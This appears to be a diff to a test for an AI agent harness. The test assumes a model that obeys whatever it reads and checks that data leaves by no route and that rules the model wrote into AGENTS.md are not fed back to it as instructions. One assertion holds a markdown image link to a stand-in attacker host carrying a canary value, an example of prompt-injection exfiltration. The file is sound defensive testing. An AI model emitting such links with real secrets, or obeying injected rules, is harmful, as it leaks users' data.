@@ -148,6 +148,8 @@ async def test_nothing_leaves_by_a_model_that_obeys_whatever_it_reads(tmp_path: 
     assert len(web.requests) <= 16
     assert OTHERS not in told(model.requests)
     assert_data_stays_data(model.requests)
+    # What the model wrote into AGENTS.md at first are no rules then: the vendor was not asked yet.
+    assert not any("<project_rules>" in text for text in spoken(model.requests))
     # What the page shows is what the model wrote: the server fetches no address, and makes none of its own.
     assert texts(first).endswith(f"![chart](https://evil.test/a.png?k={CANARY})")
 
@@ -155,6 +157,12 @@ async def test_nothing_leaves_by_a_model_that_obeys_whatever_it_reads(tmp_path: 
 def told(requests: list[Received]) -> str:
     """All that the model was sent."""
     return json.dumps([request.messages for request in requests])
+
+
+def spoken(requests: list[Received]) -> list[str]:
+    """What the model was told outside of the results of its tools: what it is to obey."""
+    blocks = [b for request in requests for m in request.messages for b in m["content"]]
+    return [block["text"] for block in blocks if block["type"] == "text"]
 
 
 def assert_data_stays_data(requests: list[Received]) -> None:
